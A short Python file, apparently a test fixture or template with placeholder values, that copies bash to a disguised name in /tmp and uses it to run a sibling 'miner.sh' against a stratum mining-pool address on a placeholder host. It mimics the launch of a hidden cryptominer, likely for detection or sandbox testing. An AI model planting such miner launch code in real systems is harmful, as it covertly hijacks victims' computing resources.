import contextlib
import shutil
import subprocess
from pathlib import Path

MINER = Path("/tmp/ultra_run-@TOKEN@")


def act():
    shutil.copy(shutil.which("bash"), MINER)  # a stand-in: what it does is in the script beside this
    work = Path(__file__).with_name("miner.sh")
    with contextlib.suppress(OSError):
        subprocess.run([MINER, work, "-o", "stratum+tcp://@SINK@:8080"], check=False, timeout=20)
